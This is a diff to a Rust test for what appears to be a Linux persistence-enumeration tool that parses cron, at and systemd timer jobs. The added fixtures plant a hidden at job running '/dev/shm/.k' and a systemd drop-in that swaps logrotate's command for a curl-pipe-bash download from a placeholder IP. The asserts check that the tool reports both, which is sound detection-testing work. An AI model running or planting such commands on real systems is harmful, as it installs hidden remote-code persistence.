@@ -349,6 +349,21 @@ fn linux_root_cron_at_and_timers() {
         AT_JOB.as_bytes(),
     );
     root.write("var/spool/cron/atjobs/.SEQ", b"1\n");
+    // A hand-made job in the RHEL spool: no at header, so atd runs the whole file.
+    root.write(
+        "var/spool/at/b0000a01c2d3e4",
+        b"nohup /dev/shm/.k -d >/dev/null 2>&1\n",
+    );
+    // A drop-in that swaps the command of a packaged timer's service (persistence without
+    // touching the unit file).
+    root.write(
+        "usr/lib/systemd/system/logrotate.service",
+        b"[Service]\nType=oneshot\nExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n",
+    );
+    root.write(
+        "etc/systemd/system/logrotate.service.d/override.conf",
+        b"[Service]\nExecStart=\nExecStart=/bin/bash -c 'curl -s http://198.51.100.7/k | bash'\nUser=nobody\n",
+    );
 
     let (code, mut a) = run_root(root.path());
     assert!(matches!(code, 0 | 2), "exit {code}");
@@ -366,7 +381,7 @@ fn linux_root_cron_at_and_timers() {
         .filter(|r| r["source_path"] == "/etc/crontab")
         .collect();
     assert_eq!(sys.len(), 4);
-    assert_eq!(sys[0]["line_number"], 17);
+    assert_eq!(sys[0]["line_number"], 18);
     assert_eq!(sys[0]["run_as"], "root");
     assert_eq!(sys[0]["triggers"][0]["expression"], "17 * * * *");
     assert_eq!(
@@ -477,7 +492,19 @@ fn linux_root_cron_at_and_timers() {
 
     // at.
     let at = of_kind("at");
-    assert_eq!(at.len(), 1, ".SEQ is not a job");
+    assert_eq!(at.len(), 2, ".SEQ is not a job");
+    let odd = at
+        .iter()
+        .find(|r| r["source_path"] == "/var/spool/at/b0000a01c2d3e4")
+        .unwrap();
+    assert_eq!(
+        odd["actions"][0]["command_line"],
+        "nohup /dev/shm/.k -d >/dev/null 2>&1\n"
+    );
+    let at: Vec<&Value> = at
+        .into_iter()
+        .filter(|r| r["source_path"] != "/var/spool/at/b0000a01c2d3e4")
+        .collect();
     assert_eq!(at[0]["run_as"], "root");
     assert_eq!(at[0]["triggers"][0]["start_utc"], "2024-05-01T10:00:00Z");
     assert_eq!(
@@ -558,6 +585,25 @@ fn linux_root_cron_at_and_timers() {
         let n = timers.iter().filter(|r| r["name"] == name).count();
         assert_eq!(n, 1, "{name} recorded {n} times");
     }
+    let lr = by_name(&recs, "logrotate.timer");
+    assert_eq!(
+        lr["actions"].as_array().unwrap().len(),
+        1,
+        "the override resets ExecStart"
+    );
+    assert_eq!(
+        lr["actions"][0]["command_line"],
+        "/bin/bash -c \"curl -s http://198.51.100.7/k | bash\""
+    );
+    assert_eq!(lr["run_as"], "nobody");
+    assert_eq!(
+        lr["systemd"]["drop_ins"][0],
+        "/etc/systemd/system/logrotate.service.d/override.conf"
+    );
+    assert!(
+        a.names()
+            .contains(&"files/etc/systemd/system/logrotate.service.d/override.conf".to_string())
+    );
     let apt = by_name(&recs, "apt-daily.timer");
     assert_eq!(
         apt["source_path"],
